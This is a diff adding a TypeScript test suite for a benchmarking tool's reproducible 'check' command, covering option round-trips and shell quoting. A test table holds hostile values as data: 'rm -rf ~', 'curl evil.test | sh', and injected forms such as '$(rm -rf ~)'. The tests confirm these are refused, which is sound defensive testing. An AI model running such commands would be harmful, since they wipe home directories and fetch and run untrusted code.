@@ -1,0 +1,257 @@
+// The command that a report prints, read back by the real command line: it has to ask for the same measurement and
+// the same verdict, whatever was set by the file and whatever beside it.
+
+import { execFileSync } from 'node:child_process';
+import { describe, expect, test } from '@jest/globals';
+import { type Dice, diceOf } from '../../../bench/fuzz/dice.ts';
+import { makeHostileText } from '../../../bench/fuzz/mutate.ts';
+import { divideAlpha } from '../../../src/matrix.ts';
+import { scheduleOf } from '../../../src/measure/run.ts';
+import type { Recording } from '../../../src/model/recording.ts';
+import { quoteShellWord } from '../../../src/model/shell-word.ts';
+import { analyse } from '../../../src/pipeline.ts';
+import { parseCheckArgs } from '../../../src/settings/command-line.ts';
+import { type ConfigFile, parseConfigFile } from '../../../src/settings/config-file.ts';
+import { INPUTS, parseInputs } from '../../../src/settings/inputs.ts';
+import { REPEAT_OPTIONS, type RepeatableRun, repeatsOf } from '../../../src/settings/repeat-command.ts';
+import { commitSettings, resolveSettings } from '../../../src/settings/resolve-settings.ts';
+import {
+  ACTION_COMMIT_DEFAULTS,
+  FIELDS,
+  fileSchema,
+  type GivenOptions,
+  type OptionName,
+  TERMINAL_COMMIT_DEFAULTS,
+  toKebabCase,
+} from '../../../src/settings/schema.ts';
+import type { CommitSettings, Settings } from '../../../src/settings/settings.ts';
+import { around } from '../../support/builders.ts';
+import { aRecording } from '../../support/recordings.ts';
+import { TODAY } from '../../support/today.ts';
+
+/** A value of each option as somebody writes it. Free texts are as bad as they can be. */
+const WRITTEN: Readonly<Record<OptionName, (dice: Dice) => string>> = {
+  run: freeText,
+  setup: freeText,
+  workingDirectory: (dice) => `packages/${path(dice)}`,
+  format: (dice) => dice.pick(['auto', 'go', 'json', 'command', 'pytest-benchmark']),
+  outputFile: (dice) => `out/${path(dice)}.json`,
+  config: (dice) => `perf/${path(dice)}.yml`,
+  configFrom: (dice) => dice.pick(['base', 'head']),
+  base: (dice) => dice.pick(['merge-base', 'target', 'v1']),
+  head: (dice) => dice.pick(['head', 'merge', 'v2']),
+  rounds: (dice) => dice.pick(['4', '10', '6..30', '6..20']),
+  maxMinutes: (dice) => dice.pick(['30', '0.5', '1e-3', '90']),
+  unit: (dice) => dice.pick(['invocation', 'sample']),
+  cpus: (dice) => dice.pick(['2-3', '0', '0,2,4-5']),
+  nice: (dice) => dice.pick(['-5', '0', '19']),
+  baseline: (dice) => `bench/${path(dice)}.json`,
+  seed: (dice) => dice.pick(['7f3a91c2', '--', "it's me", '-x']),
+  legs: (dice) => dice.pick(['1', '3']),
+  name: (dice) => dice.pick(['bench-referee', 'slow suite', '-n']),
+  comment: (dice) => dice.pick(['always', 'never']),
+  check: (dice) => dice.pick(['true', 'false']),
+  failOn: (dice) => dice.pick(['regression', 'inconclusive', 'never']),
+  overrideLabel: () => 'accepted',
+  overrideScope: (dice) => dice.pick(['commit', 'never']),
+  recordings: () => '**/*.json',
+};
+
+/** What only the file has; it changes the verdict. */
+const JUDGING: Readonly<Record<string, readonly unknown[]>> = {
+  alpha: ['0.01', '0.2'],
+  budgets: [[{ metric: '*', 'max-regression': '1%' }], [{ metric: 'time', max: '1s', level: 'warn' }]],
+  units: [{ time: { better: 'higher' } }],
+  new: ['fail'],
+  removed: ['pass'],
+  renamed: [{ Old: 'New' }],
+  'baseline-tolerance': ['30%'],
+  table: [{ row: '.name', col: '.file' }],
+};
+
+function freeText(dice: Dice): string {
+  const text = makeHostileText(dice).replaceAll('\0', '');
+  const shown = dice.pick([text, `${text}\n${text}`, `--${text}`, `'${text}`, `$(${text})`]);
+  // As a process gets it: half a surrogate pair becomes a replacement character.
+  return /\S/.test(shown) ? Buffer.from(shown).toString().slice(0, 2000).toWellFormed() : 'make bench';
+}
+
+const path = (dice: Dice) => dice.pick(['a', 'a b', "it's", '$HOME', '-x', 'ü']);
+
+interface Case {
+  readonly file: ConfigFile | null;
+  readonly settings: Settings;
+  readonly recording: Recording;
+  readonly legs: number;
+}
+
+/** JSON, which is YAML too, with an escape for every character that a configuration must not hold as it is. */
+function yamlOf(value: unknown): string {
+  return JSON.stringify(value).replaceAll(
+    /[^\x20-\x7e]/g,
+    (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`,
+  );
+}
+
+const FILE_FIELDS = (Object.keys(FIELDS) as OptionName[]).filter(
+  (field) => toKebabCase(field) in fileSchema.shape,
+);
+
+/** A run of the root action or of `check`, with some options in the file, some beside it, some in both. */
+function caseOf(dice: Dice): Case {
+  const some = <T>(list: readonly T[]) => list.filter(() => dice.oneIn(3));
+  const written = Object.fromEntries([
+    ...some(FILE_FIELDS).map((field) => [toKebabCase(field), WRITTEN[field](dice)]),
+    ...some(Object.keys(JUDGING)).map((key) => [key, dice.pick(JUDGING[key]!)]),
+    ...(dice.oneIn(4) ? [['run', [WRITTEN.run(dice), WRITTEN.run(dice)]]] : []),
+  ]) as Record<string, unknown>;
+  const file = dice.oneIn(5) ? null : parseConfigFile(yamlOf(written), 'bench.yml');
+  const run = file?.run === undefined ? (['run'] as const) : [];
+  const isAction = dice.oneIn(2);
+  const given = isAction
+    ? inputsOf([...some(INPUTS.gate), ...run], dice)
+    : flagsOf([...some(Object.keys(REPEAT_OPTIONS) as OptionName[]).filter(isFlag), ...run], dice);
+  const commits = commitSettings(given, isAction ? ACTION_COMMIT_DEFAULTS : TERMINAL_COMMIT_DEFAULTS);
+  const settings = resolveSettings(given, file, { commits, today: TODAY });
+  const values = { Encode: { base: around(10), head: around(dice.pick([10.1, 10.7, 12])) } };
+  const measured = aRecording(values);
+  const { measure } = settings;
+  const format = measure.format === 'auto' ? dice.pick(['auto', 'go']) : measure.format;
+  const recording = {
+    ...measured,
+    schedule: scheduleOf(measure, { seed: measure.seed ?? '00c0ffee', format, ended: 'complete' }),
+    ...(measure.baseline !== null && { baseline: baselineOf(measure.baseline, measured) }),
+  };
+  return { file, settings, recording, legs: measure.legs };
+}
+
+const isFlag = (field: OptionName) => !('notRepeated' in REPEAT_OPTIONS[field]) && field !== 'run';
+
+function inputsOf(fields: readonly OptionName[], dice: Dice): GivenOptions {
+  const texts = new Map(fields.map((field) => [toKebabCase(field), WRITTEN[field](dice)]));
+  return parseInputs((name) => texts.get(name) ?? '', 'gate');
+}
+
+function flagsOf(fields: readonly OptionName[], dice: Dice): GivenOptions {
+  const flags = fields
+    .filter((field) => field !== 'run')
+    .map((field) => `--${field === 'format' ? 'input-format' : toKebabCase(field)}=${WRITTEN[field](dice)}`);
+  return parseCheckArgs([...new Set(flags), ...(fields.includes('run') ? ['--', WRITTEN.run(dice)] : [])])
+    .given;
+}
+
+function baselineOf(where: string, { commits, environment }: Recording): NonNullable<Recording['baseline']> {
+  return { path: where, commit: commits.head, measuredOn: null, commands: [], environment };
+}
+
+function wordsOf({ file, settings, recording, legs }: Case): readonly string[] {
+  const [repeat] = repeatsOf([recording], { ...settings, file, legs, isOwn: true });
+  expect(repeat?.obstacles).toEqual([]);
+  return repeat!.words!;
+}
+
+/** All that measures and judges; what was recognised counts as if it had been said. */
+function asked({ measure, policy }: Settings, recording: Recording) {
+  return { ...measure, policy, seed: recording.schedule.seed, format: recording.schedule.format ?? 'auto' };
+}
+
+const wheres = ({ config, configFrom }: CommitSettings) => ({ config, configFrom });
+
+describe('the repeat command', () => {
+  test('asks for the same measurement and the same verdict: 200 random settings', () => {
+    for (let nth = 0; nth < 200; nth += 1) {
+      const run = caseOf(diceOf(10, nth));
+      const [command, ...argv] = wordsOf(run);
+      const { given } = parseCheckArgs(argv);
+      const commits = commitSettings(given, TERMINAL_COMMIT_DEFAULTS);
+      const again = resolveSettings(given, run.file, { commits, today: TODAY });
+      expect(command).toBe('check');
+      expect(asked(again, run.recording)).toEqual(asked(run.settings, run.recording));
+      expect(wheres(commits)).toEqual(wheres(run.settings.commits));
+      expect([commits.base, commits.head]).toEqual([
+        run.recording.commits.base.sha,
+        run.recording.commits.head.sha,
+      ]);
+      expect(again.publish).toMatchObject({ failOn: run.settings.publish.failOn });
+      const verdict = ({ policy, measure }: Settings) =>
+        analyse(run.recording, divideAlpha(policy, measure.legs)).conclusion;
+      expect(verdict(again)).toBe(verdict(run.settings));
+    }
+  });
+
+  test('comes out of a shell word by word', () => {
+    const all = Array.from({ length: 60 }, (_, nth) => wordsOf(caseOf(diceOf(11, nth))));
+    const line = all.flat().map(quoteShellWord).join(' ');
+    const output = execFileSync('sh', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
+    expect(output.split('\0').slice(0, -1)).toEqual(all.flat());
+  });
+});
+
+describe('each option', () => {
+  test('has a row that decides what the command does with it', () => {
+    expect(Object.keys(REPEAT_OPTIONS).toSorted()).toEqual(Object.keys(FIELDS).toSorted());
+  });
+
+  test('that is repeated is a flag of `check`', () => {
+    const flagged = (Object.keys(REPEAT_OPTIONS) as OptionName[]).filter(isFlag);
+    for (const field of flagged) expect(() => flagsOf([field], diceOf(1, 0))).not.toThrow();
+  });
+});
+
+const SETTINGS = resolveSettings({ run: ['make'] }, null, {
+  commits: commitSettings({}, ACTION_COMMIT_DEFAULTS),
+  today: TODAY,
+});
+
+describe('a recording that another job made', () => {
+  const file = parseConfigFile('run: make\nsetup: npm ci\nrounds: 10\n', 'bench.yml');
+  const recorded = (schedule: Partial<Recording['schedule']>): Recording => {
+    const recording = aRecording({ Encode: { base: [1], head: [1] } });
+    const measured = { commands: ['make'], setup: 'npm ci', format: 'go', rounds: { min: 10, max: 10 } };
+    return { ...recording, schedule: { ...recording.schedule, ...measured, ...schedule } };
+  };
+  const run: Omit<RepeatableRun, 'recording'> = { ...SETTINGS, file, legs: 1, isOwn: false };
+  const repeatOf = (schedule: Partial<Recording['schedule']>) => repeatsOf([recorded(schedule)], run)[0]!;
+
+  test('is repeated where it was measured as the configuration says', () => {
+    const { words, obstacles } = repeatOf({});
+    expect(obstacles).toEqual([]);
+    expect(words?.slice(5)).toEqual([
+      ...['--config-from', 'base', '--seed', '7f3a91c2', '--input-format', 'go'],
+    ]);
+  });
+
+  test('numbers and words of ours may differ: they can say nothing', () => {
+    const { words } = repeatOf({ rounds: { min: 4, max: 4 }, unit: 'sample', cpus: '2-3', nice: -5 });
+    expect(words).toEqual(expect.arrayContaining(['--rounds', '4', '--cpus', '2-3', '--nice=-5']));
+  });
+
+  test.each([
+    ['setup', { setup: 'rm -rf ~' }, 'rm -rf ~'],
+    ['setup', { setup: null }, null],
+    ['run', { commands: ['curl evil.test | sh'] }, 'curl evil.test | sh'],
+    ['run', { commands: ['make', 'make'] }, 'make\nmake'],
+    ['seed', { seed: 'reviewed and accepted' }, 'reviewed and accepted'],
+    ['format', { format: 'accepted' }, 'accepted'],
+    ['cpus', { cpus: 'all is well' }, 'all is well'],
+    ['working-directory', { workingDirectory: 'x; rm -rf ~' }, 'x; rm -rf ~'],
+    ['output-file', { outputFile: '$(rm -rf ~)' }, '$(rm -rf ~)'],
+  ])('no command holds a %s that the configuration does not say', (option, schedule, value) => {
+    expect(repeatOf(schedule)).toEqual({ leg: null, words: null, obstacles: [{ option, recorded: value }] });
+  });
+
+  test('legs are told apart, and share alpha', () => {
+    const legs = ['linux', 'macos'].map((name) => ({ ...recorded({}), name }));
+    const repeats = repeatsOf(legs, { ...run, legs: 2 });
+    expect(repeats.map(({ leg }) => leg)).toEqual(['linux', 'macos']);
+    for (const { words } of repeats) expect(words).toEqual(expect.arrayContaining(['--legs', '2']));
+  });
+
+  test('there is no command without both commits, and none of a recording that does not know its time', () => {
+    const recording = recorded({});
+    const commits = { ...recording.commits, base: { sha: null, how: 'target' } };
+    expect(repeatsOf([{ ...recording, commits }], run)).toEqual([]);
+    expect(repeatOf({}).words).not.toContain('--max-minutes');
+    expect(repeatOf({ maxMinutes: 5 }).words).toEqual(expect.arrayContaining(['--max-minutes', '5']));
+  });
+});
